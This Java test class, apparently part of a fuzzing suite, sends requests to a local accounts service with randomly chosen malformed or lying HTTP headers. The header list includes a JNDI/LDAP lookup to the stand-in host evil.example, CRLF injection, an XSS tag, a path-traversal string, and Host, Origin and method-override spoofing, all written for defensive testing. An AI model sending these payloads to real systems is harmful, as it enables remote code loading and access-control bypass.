package io.dynamicaccounts.local.hostile;

import static io.dynamicaccounts.local.hostile.HostilePaths.one;

import io.dynamicaccounts.http.json.JsonBytes;
import java.util.List;
import java.util.Random;

/** Right requests with one to three headers that lie or are malformed. */
final class HostileHeaders {

    private static final String TOKEN = TokenHolder.UNKNOWN.token();

    private static final List<String> HEADERS = List.of(
            "Authorization: Bearer",
            "Authorization: Bearer ",
            "Authorization: " + TOKEN,
            "Authorization: bearer " + TOKEN,
            "Authorization: Basic b2xpdmlhOnNlY3JldA==",
            "Authorization: Digest username=\"x\"",
            "Authorization: Bearer " + "x".repeat(9_000),
            "Authorization: Bearer " + TOKEN + ", Bearer " + TOKEN,
            "Authorization: Bearer \u00ff\u00fe",
            "Authorization: Bearer\t" + TOKEN,
            "Proxy-Authorization: Bearer " + TOKEN,
            "Cookie: token=" + Secrets.BESIDE,
            "Host: evil.example",
            "Host: 127.0.0.1@evil.example",
            "Host: ",
            "Host: [::1",
            "Host: localhost:99999999",
            "Origin: http://evil.example",
            "Origin: null",
            "Origin: http://localhost",
            "Referer: http://evil.example/",
            "Content-Type: text/plain",
            "Content-Type: application/json; charset=utf-16",
            "Content-Type: application/x-yaml",
            "Content-Type: multipart/form-data; boundary=x",
            "Content-Type: ;;;",
            "Content-Type: application/json;charset",
            "Content-Type: " + "a/".repeat(3_000),
            "Content-Encoding: gzip",
            "Content-Encoding: identity, br",
            "Accept: text/html",
            "Accept: */*;q=evil",
            "Accept: " + "a/b,".repeat(2_000),
            "Accept-Encoding: gzip;q=-1",
            "X-Request-Id: a b",
            "X-Request-Id: " + "x".repeat(65),
            "X-Request-Id: %0d%0aX-Evil:1",
            "X-Request-Id: <script>alert(1)</script>",
            "X-Request-Id: ${jndi:ldap://evil.example/a}",
            "X-Request-Id: \u00e4",
            "X-Request-Id: ../../etc/passwd",
            "X-Request-Id: ",
            "Idempotency-Key: " + Secrets.BESIDE,
            "X-Forwarded-For: 127.0.0.1, " + Secrets.BESIDE,
            "X-Forwarded-Host: evil.example",
            "X-Forwarded-Proto: https",
            "Forwarded: for=127.0.0.1;host=evil.example",
            "X-Spinnaker-User: " + Secrets.BESIDE,
            "X-Spinnaker-Accounts: *",
            "X-HTTP-Method-Override: DELETE",
            "X-Original-URL: /metrics",
            "X-Rewrite-URL: /metrics",
            "Range: bytes=0-1,-9",
            "If-None-Match: *",
            "Expect: 200-ok",
            "Expect: 100-continue",
            "Upgrade: h2c",
            "TE: trailers, deflate;q=evil",
            "Trailer: Authorization",
            "Date: never",
            "X-Evil: \u0000\u0001\u001b[31m",
            "Max-Forwards: -1",
            "Via: 1.1 " + Secrets.BESIDE);

    private final Random random;
    private final TokenHolder from;

    HostileHeaders(Random random, TokenHolder from) {
        this.random = random;
        this.from = from;
    }

    HostileRequest draw() {
        var headers = new StringBuilder();
        for (int i = random.nextInt(3); i >= 0; i--) {
            headers.append(one(random, HEADERS)).append("\r\n");
        }
        if (random.nextBoolean()) {
            return HostileRequest.http(
                    "headers of a read", from, "GET", "/armory/accounts?limit=10", headers.toString(), new byte[0]);
        }
        Samples.Sample sample = new Samples(random).any();
        if (random.nextBoolean()) {
            headers.append(HostileBodies.JSON);
        }
        byte[] body = JsonBytes.of(sample.body());
        return HostileRequest.http(
                "headers of a write", from, sample.method(), sample.path(), headers.toString(), body);
    }
}
